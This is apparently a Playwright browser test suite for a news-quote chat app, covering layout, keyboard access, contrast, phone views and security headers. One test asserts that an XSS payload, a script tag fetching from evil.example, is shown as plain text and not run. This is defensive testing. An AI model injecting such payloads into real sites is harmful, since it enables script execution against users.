"""The chat window in a real browser: what a reader sees, can reach by keyboard, and is safe from."""

import re
from collections.abc import Iterator
from dataclasses import replace

import httpx
import pytest
from playwright.sync_api import Page, expect

from rag import wording
from rag.question import PAGE
from rag.schema import DateMention
from tests.chat_browser_cases import TalkingAsker, answered, ask, fits
from tests.chat_cases import BRIDGE, HOSTILE, PAYLOADS, SEED, WIRE, quote, quote_with_speech
from tests.conftest import IN_CHROMIUM

pytestmark = IN_CHROMIUM

MISSING = "How many people are missing?"
TOLL = "And the civilian toll?"
UNKNOWN = "Will it rain in Berlin?"
REPEATED = "Who was ordered to evacuate?"
EVERYTHING = "Everything that Tsukanov said"
ONLY_CALLED_HE = replace(
    quote_with_speech(BRIDGE, 5),
    dates=(DateMention("for years", 0, 9, "2022", "before", "counted_from_publication"),),
)
CONTRASTS = """() => {
  const channels = (colour) => colour.match(/[\\d.]+/g).map(Number);
  const linear = (c) => (c /= 255) <= 0.03928 ? c / 12.92 : ((c + 0.055) / 1.055) ** 2.4;
  const luminance = ([r, g, b]) => 0.2126 * linear(r) + 0.7152 * linear(g) + 0.0722 * linear(b);
  const behind = (element) => {
    const colour = channels(getComputedStyle(element).backgroundColor);
    return colour.length === 3 || colour[3] === 1 ? colour : behind(element.parentElement);
  };
  const own = (element) => [...element.childNodes].some((n) => n.nodeType === 3 && n.textContent.trim());
  const seen = [...document.querySelectorAll("#masthead *, #talk *, #evidence *")].filter((e) => e.checkVisibility());
  return seen.filter((e) => own(e) && !e.closest(".unseen, .sr-only")).map((e) => {
    const [a, b] = [luminance(channels(getComputedStyle(e).color)), luminance(behind(e))].sort((x, y) => y - x);
    return [`${e.tagName} ${e.className}`, (a + 0.05) / (b + 0.05)];
  });
}"""


@pytest.fixture(scope="module")
def asker() -> Iterator[TalkingAsker]:
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(wording.labels, "EXAMPLE_ARTICLE", SEED.id)
        yield TalkingAsker(
            SEED, HOSTILE, WIRE, BRIDGE, spoken=[ONLY_CALLED_HE, *[quote_with_speech(SEED, 2)] * (2 * PAGE)]
        )


def test_the_first_example_is_answered_with_the_quote_marked_in_its_article(page: Page) -> None:
    page.get_by_role("button", name=MISSING).click()
    bubble = page.locator(".quote").first
    expect(bubble.locator("blockquote")).to_have_text(quote(SEED, 2).text)
    expect(bubble.locator(".number")).to_have_text("1")
    expect(page.locator("mark.current[data-keys='1-1']")).to_have_text(quote(SEED, 2).text)
    expect(page.locator("mark.current[data-keys='1-1']")).to_be_in_viewport()
    expect(page.locator(".evidence .number.current")).to_have_text("1")
    expect(bubble.locator(".who")).to_have_text("Alexei Tsukanov, the region’s Prosecutor General · direct speech")


def test_the_conversation_has_a_little_more_room_than_the_article_beside_it(page: Page) -> None:
    shelf, talk, evidence = (page.locator(f"#{part}").bounding_box() for part in ("shelf", "talk", "evidence"))
    assert shelf and talk and evidence
    assert shelf["width"] + talk["width"] + evidence["width"] == pytest.approx(1280)
    assert 1.1 < talk["width"] / evidence["width"] < 1.4
    assert talk["height"] == evidence["height"] > 700


def test_a_later_answer_counts_on_and_an_earlier_number_still_leads_to_its_place(page: Page) -> None:
    ask(page, MISSING, 1)
    ask(page, TOLL, 2)
    expect(page.locator(".evidence .number.current")).to_have_text("2")
    expect(page.locator(".read-as")).to_contain_text("I read this as:")
    page.get_by_role("button", name="Quote 1, show in the article").click()
    expect(page.locator(".evidence .number.current")).to_have_text("1")
    expect(page.locator("mark.current")).to_have_text(quote(SEED, 2).text)


def test_a_question_without_an_answer_gets_closest_sentences_that_are_not_answers(page: Page) -> None:
    ask(page, UNKNOWN, 1)
    expect(page.locator(".statement")).to_have_text("The article does not say.")
    expect(page.locator(".closest h3")).to_have_text("Closest sentences, not answers")
    expect(page.locator("mark.current")).to_have_count(0)
    expect(page.locator("mark.near")).to_have_text(quote(SEED, 1).text)


def test_what_articles_say_does_nothing(page: Page) -> None:
    ask(page, "Is there a harmless note?", 1)
    shown = page.locator(".conversation").inner_text() + page.locator(".evidence").inner_text()
    assert all(shown.count(payload) >= 2 for payload in PAYLOADS if "!" not in payload)
    smuggled = page.locator(".conversation, .evidence").locator("script, img, svg, iframe, style, link, [open]")
    assert smuggled.count() == 0
    assert page.locator(".evidence a").count() == 0
    page.locator(".number").first.click()


def test_a_question_that_is_markup_is_only_shown(page: Page) -> None:
    ask(page, "".join(PAYLOADS), 1)
    expect(page.locator(".question")).to_contain_text("<script>fetch('http://evil.example/script')</script>")


def test_an_empty_question_changes_nothing(page: Page) -> None:
    page.get_by_label("Your question").fill("   ")
    page.get_by_label("Your question").press("Enter")
    page.wait_for_timeout(500)
    expect(page.get_by_role("button", name=MISSING)).to_be_visible()


def test_a_pasted_book_and_a_failure_are_each_one_calm_sentence(page: Page) -> None:
    ask(page, "x" * 1_000_000, 1)
    expect(page.locator(".statement").last).to_have_text("The question has 1,000,000 characters; ask about one thing.")
    page.get_by_label("Your question").fill("Please break")
    page.get_by_label("Your question").press("Enter")
    expect(page.locator(".statement").last).to_contain_text("nothing was lost")
    expect(page.get_by_label("Your question")).to_have_value("Please break")
    ask(page, MISSING, 2)
    expect(page.locator(".quote blockquote")).to_have_text(quote(SEED, 2).text)


def test_another_article_that_prints_the_quote_opens_at_its_place_and_there_is_a_way_back(page: Page) -> None:
    ask(page, REPEATED, 1)
    line = page.locator(".also")
    expect(line).to_have_text("also in: The night from our wires (The Gazette, 20 May 2025)")
    line.get_by_role("button").click()
    expect(page.locator("mark.current[data-keys='1-1-1']")).to_have_text(quote(SEED, 5).text)
    expect(page.locator("mark.current[data-keys='1-1-1']")).to_be_in_viewport()
    expect(page.locator("[data-returns='1-1-1']")).to_be_focused()
    page.keyboard.press("Enter")
    expect(line.get_by_role("button")).to_be_focused()


def test_on_a_phone_it_opens_over_the_conversation_too(phone: Page) -> None:
    ask(phone, REPEATED, 1)
    assert fits(phone)
    phone.locator(".also").get_by_role("button").click()
    expect(phone.locator("mark.current[data-keys='1-1-1']")).to_be_in_viewport()
    phone.go_back()
    expect(phone.locator(".also")).to_be_visible()


def test_who_speaks_is_labelled_in_the_article_read_aloud_and_not_part_of_its_text(page: Page) -> None:
    ask(page, MISSING, 1)
    label = page.locator(".evidence [data-label='AT']").first
    assert label.evaluate("e => getComputedStyle(e, '::before').content").startswith('"AT')
    assert "Alexei Tsukanov says:" in page.locator(".evidence").aria_snapshot()
    assert label.evaluate("e => getComputedStyle(e).textDecorationLine") == "underline"
    assert "AT" not in label.inner_text()
    legend = page.locator(".voices").first
    expect(legend.locator("li").nth(1)).to_contain_text("AT")
    expect(legend.locator("li").nth(1)).to_contain_text("Alexei Tsukanov, the region’s Prosecutor General")


def test_a_legend_that_was_closed_stays_closed(page: Page) -> None:
    ask(page, MISSING, 1)
    legend = page.locator(".source.current .voices")
    expect(legend).to_have_attribute("open", "")
    legend.locator("summary").press("Enter")
    ask(page, TOLL, 2)
    expect(legend).not_to_have_attribute("open", "")
    expect(legend.locator("ul")).to_be_hidden()


def test_on_a_phone_the_legend_comes_closed_and_opens(phone: Page) -> None:
    ask(phone, MISSING, 1)
    phone.get_by_role("button", name="Quote 1, show in the article").click()
    legend = phone.locator(".source.current .voices")
    expect(legend.locator("ul")).to_be_hidden()
    legend.locator("summary").click()
    expect(legend.locator("ul")).to_be_visible()
    assert fits(phone)


def test_one_who_is_only_called_he_leads_to_the_sentence_that_probably_names_him(page: Page) -> None:
    ask(page, EVERYTHING, 1)
    page.get_by_role("button", name="probably named in sentence 4").click()
    sentence = page.locator("[data-sentence='bridge-4']")
    expect(sentence).to_be_focused()
    expect(sentence).to_be_in_viewport()
    expect(sentence).to_contain_text("Bo Reed")
    page.keyboard.press("Escape")
    expect(page.get_by_role("button", name="probably named in sentence 4")).to_be_focused()


def test_by_which_rule_a_date_was_resolved_opens_by_keyboard(page: Page) -> None:
    ask(page, EVERYTHING, 1)
    date = page.locator(".date").first
    expect(date.locator("summary")).to_have_text("for years (before 2022)")
    expect(date.locator("p")).to_be_hidden()
    date.locator("summary").press("Enter")
    expect(date.locator("p")).to_have_text("counted from publication on 20 May 2025")


def test_everything_that_somebody_said_comes_page_by_page_and_says_how_much_there_is(page: Page) -> None:
    ask(page, EVERYTHING, 1)
    expect(page.locator(".quote")).to_have_count(PAGE)
    expect(page.locator(".coverage")).to_contain_text("20 of 41 quotes.")
    page.get_by_role("button", name="Show more (21 quotes to come)").press("Enter")
    expect(page.locator(".quote")).to_have_count(2 * PAGE)
    expect(page.get_by_role("button", name="Quote 21, show in the article")).to_be_focused()
    page.get_by_role("button", name="Show more (1 quote to come)").click()
    expect(page.locator(".quote")).to_have_count(2 * PAGE + 1)
    expect(page.locator(".coverage")).to_contain_text("41 quotes.")
    expect(page.locator(".more")).to_have_count(0)
    ask(page, MISSING, 2)
    expect(page.locator(".quote .number").last).to_have_text("42")


def test_asking_reading_and_coming_back_work_by_keyboard(page: Page) -> None:
    expect(page.get_by_label("Your question")).to_be_focused()
    page.keyboard.type(MISSING)
    page.keyboard.press("Enter")
    answered(page, 1)
    expect(page.locator(".steps")).to_have_count(0)  # while it is being answered, Stop stands beside the box
    expect(page.get_by_label("Your question")).to_be_focused()
    number = page.locator(".quote .number")
    for _ in range(6):  # the questions to ask next, which may have come by now, stand between
        page.keyboard.press("Shift+Tab")
        if number.evaluate("element => element === document.activeElement"):
            break
    expect(number).to_be_focused()
    page.keyboard.press("Enter")
    expect(page.get_by_role("button", name="Quote 1, back to the answer")).to_be_focused()
    page.keyboard.press("Enter")
    expect(page.locator(".quote .number")).to_be_focused()


def test_every_control_has_a_name_and_the_two_sides_are_labelled(page: Page) -> None:
    ask(page, MISSING, 1)
    for control in page.get_by_role("button").all() + page.get_by_role("textbox").all():
        expect(control).to_have_accessible_name(re.compile(r"\w"))
    expect(page.get_by_role("log", name="Conversation")).to_be_visible()
    expect(page.get_by_role("region", name="Evidence: the articles that are quoted")).to_be_visible()


def test_on_a_phone_a_number_opens_the_article_over_the_conversation_and_there_is_a_way_back(phone: Page) -> None:
    ask(phone, MISSING, 1)
    expect(phone.locator("#evidence")).to_be_hidden()
    for way_back in (lambda: phone.get_by_role("button", name="Back to the conversation").click(), phone.go_back):
        phone.get_by_role("button", name="Quote 1, show in the article").click()
        expect(phone.locator("mark.current")).to_be_in_viewport()
        assert fits(phone)
        way_back()
        expect(phone.locator("#evidence")).to_be_hidden()
        expect(phone.locator(".quote .number")).to_be_visible()


def test_nothing_scrolls_sideways_on_a_phone(phone: Page) -> None:
    assert fits(phone)
    ask(phone, "Is there a harmless note?", 1)
    ask(phone, "w" * 300, 2)
    assert fits(phone)


def test_a_speaker_without_a_blank_in_the_name_scrolls_nothing_sideways(phone: Page) -> None:
    ask(phone, EVERYTHING, 1)
    phone.locator(".who strong bdi").first.evaluate("(name) => { name.textContent = 'Berg'.repeat(100); }")
    assert fits(phone)


def test_a_citation_is_readable_in_full_on_a_phone(phone: Page) -> None:
    ask(phone, MISSING, 1)
    place = phone.locator(".source > span").first
    expect(place).to_have_text("· undated · sentence 2 of 11")
    box, title = place.bounding_box(), phone.locator(".source cite").first.bounding_box()
    assert box and title
    assert box["x"] + box["width"] <= 390
    assert title["y"] + title["height"] <= box["y"]
    assert not phone.evaluate("[...document.querySelectorAll('cite')].some((e) => e.scrollHeight > e.clientHeight)")


def test_without_their_article_there_are_no_examples(page: Page, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(wording.labels, "EXAMPLE_ARTICLE", "not stored")
    page.reload()
    expect(page.locator("#masthead")).to_contain_text("4 articles ·", timeout=20_000)
    expect(page.get_by_role("heading", name="Ask, and read")).to_be_visible()
    expect(page.get_by_role("button", name=MISSING)).to_be_hidden()
    expect(page.get_by_text("For example")).to_be_hidden()


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_text_stands_out_from_what_is_behind_it(page: Page, scheme: str) -> None:
    page.emulate_media(color_scheme="dark" if scheme == "dark" else "light")
    page.reload()
    expect(page.get_by_role("button", name=MISSING)).to_be_visible(timeout=20_000)
    dark = page.evaluate("getComputedStyle(document.querySelector('.gradio-container')).backgroundColor")
    assert dark == ("rgb(22, 22, 20)" if scheme == "dark" else "rgb(251, 250, 247)")
    ask(page, MISSING, 1)
    ask(page, UNKNOWN, 2)
    ask(page, REPEATED, 3)
    ask(page, EVERYTHING, 4)
    page.locator(".date summary").first.click()
    contrasts = page.evaluate(CONTRASTS)
    assert len(contrasts) > 20
    assert [found for found in contrasts if found[1] < 4.5] == []


def test_the_named_endpoint_returns_the_answer_object_and_is_the_only_one_listed(address: str) -> None:
    from gradio_client import Client
    from gradio_client.exceptions import AppError

    client = Client(address, verbose=False)
    assert list(client.view_api(return_format="dict", print_info=False)["named_endpoints"]) == ["/ask"]
    assert client.predict(MISSING, api_name="/ask")["quotes"][0]["text"] == quote(SEED, 2).text
    assert "after: " + MISSING in client.predict(TOLL, [MISSING], api_name="/ask")["standalone_question"]
    for question, history in (("x" * 3000, []), (5, []), (MISSING, [5]), (MISSING, "earlier")):
        with pytest.raises(AppError, match="question"):
            client.predict(question, history, api_name="/ask")


@pytest.mark.parametrize("path", ["queue/join", "run/predict", "call/nothing"])
def test_an_event_that_is_not_there_is_not_found(address: str, path: str) -> None:
    event = {"data": [], "fn_index": 99, "session_hash": "a"}
    assert httpx.post(f"{address}gradio_api/{path}", json=event).status_code == 404


def test_every_page_carries_the_security_headers_and_uploads_are_refused(address: str) -> None:
    headers = httpx.get(address).headers
    assert "default-src 'self'" in headers["content-security-policy"]
    assert headers["x-content-type-options"] == "nosniff"
    refused = httpx.post(f"{address}gradio_api/upload", files={"files": ("a.txt", b"x" * 10_000)})
    assert refused.status_code == 413
